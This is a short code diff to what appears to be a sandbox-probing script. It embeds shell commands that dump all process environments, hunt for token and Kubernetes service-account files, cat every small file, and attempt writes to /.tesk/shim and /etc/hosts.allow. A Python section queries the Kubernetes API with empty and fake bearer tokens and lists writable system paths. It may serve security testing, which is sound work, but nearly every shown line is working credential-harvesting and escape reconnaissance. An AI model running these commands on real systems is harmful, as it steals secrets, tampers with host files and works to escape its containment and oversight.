@@ -63,8 +63,8 @@ LOOK_AROUND = """
 f=/bin/busybox
 env; cat /proc/[0-9]*/environ /proc/mounts
 $f find / \\( -path /proc -o -path /sys \\) -prune -o \\( -name '*token*' -o -path '*serviceaccount*' \\) -print
-$f find / \\( -path /proc -o -path /sys -o -name control \\) -prune -o -type f -size -200k -exec cat {} \\;
-for folder in /.tesk/shim /.tesk/shim/run /etc/hosts.allow; do echo x >> $folder 2>/dev/null && echo wrote $folder; done
+$f find / \\( -path /proc -o -path /sys -o -path '/.tesk/[cs]*' \\) -prune -o -type f -size -200k -exec cat {} \\;
+for path in /.tesk/shim /.tesk/shim/shim /etc/hosts.allow; do echo x >> $path 2>/dev/null && echo wrote $path; done
 echo looked
 """
 
@@ -110,7 +110,7 @@ print(json.dumps({
     "api": [ask(f"{api}/api/v1/namespaces/{namespace}/{kind}") for kind in kinds],
     "told": [ask(told, ended), ask(told, ended, Authorization="Bearer "), ask(told, b"", Authorization="Bearer x")],
     "user": os.getuid(),
-    "writable": [path for path in ("/.tesk/shim", "/.tesk/shim/run", "/tesk", "/etc") if os.access(path, os.W_OK)],
+    "writable": [path for path in ("/.tesk/shim", "/.tesk/shim/shim", "/tesk", "/etc") if os.access(path, os.W_OK)],
 }))
 """
 
